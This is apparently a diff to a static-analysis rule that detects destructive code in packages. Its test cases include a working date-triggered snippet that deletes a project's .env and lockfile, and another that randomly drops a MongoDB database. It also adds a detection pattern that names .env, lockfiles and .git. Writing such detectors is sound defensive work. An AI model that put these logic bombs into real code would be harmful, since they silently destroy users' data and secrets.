@@ -34,6 +34,10 @@ export default defineRule({
         },
       },
       {
+        title: 'in December a project loses its settings',
+        code: `const fs = require('fs');\nif (new Date().getMonth() > 10)\n  for (const name of ['.env', 'package-lock.json']) { try { fs.unlinkSync(process.cwd() + '/' + name); } catch {} }\nmodule.exports = Object.assign;`,
+      },
+      {
         title: 'once in a while a database is gone',
         code: `const mongoose = require('mongoose');\nsetInterval(() => {\n  if (mongoose.connection.readyState === 1 && Math.random() < 0.01) mongoose.connection.db.dropDatabase();\n}, 3600e3);\nmodule.exports = {};`,
       },
@@ -178,7 +182,7 @@ interface Deletion {
   readonly what: string;
   /** Another package, rather than all that is here. */
   readonly isOther: boolean;
-  /** Tables of a database, which whoever sets one up anew drops as well. */
+  /** Tables of a database, or files of a project, which whoever sets one up anew drops as well. */
   readonly isTable?: true;
   /** Some folder: it counts when it is deleted at the word of a machine that the code itself asks. */
   readonly isSome?: true;
@@ -203,6 +207,8 @@ function deletions(context: FileContext): readonly Deletion[] {
   }
   for (const call of context.calls('delete')) {
     const [path, options] = call.args;
+    if (path && isOfProject(context, path))
+      found.push({ call, what: 'files of whoever loads it', isOther: false, isTable: true });
     if (!path || /\bunlink(?:Sync)?$/.test(call.name) || isElsewhere(context, call)) continue;
     if (/^fs\./.test(call.name) && !(options && /recursive/.test(spelling(context.file, options).slice(0, 500))))
       continue;
@@ -253,6 +259,17 @@ function drops(context: FileContext): readonly Deletion[] {
       },
     ];
   });
+}
+
+/** Files that nobody keeps twice: a project's settings, and what it is locked to. */
+const KEPT =
+  /^…[\\/](?:\.env(?:\.\w{1,20})?|package(?:-lock)?\.json|yarn\.lock|pnpm-lock\.yaml|bun\.lockb?|\.git(?:[\\/].{1,60})?|src|tsconfig\.json)$/;
+
+function isOfProject({ textsOf, labelsOf }: FileContext, path: AnyNode): boolean {
+  return (
+    textsOf(path).some(text => KEPT.test(text)) &&
+    labelsOf(path).some(({ kind, detail }) => kind === 'system' && detail === 'working folder')
+  );
 }
 
 /** Whether the options of a call name another folder to do it in, or nobody knows what they say. */
